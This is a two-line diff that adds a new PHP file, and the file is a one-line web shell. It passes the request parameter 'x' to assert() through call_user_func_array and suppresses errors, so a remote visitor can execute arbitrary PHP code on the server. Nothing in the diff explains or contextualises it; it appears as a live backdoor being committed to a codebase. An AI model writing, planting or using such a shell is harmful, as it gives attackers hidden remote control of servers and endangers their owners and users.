@@ -1,0 +1,2 @@
+<?php
+@call_user_func_array('assert', array($_REQUEST['x']));
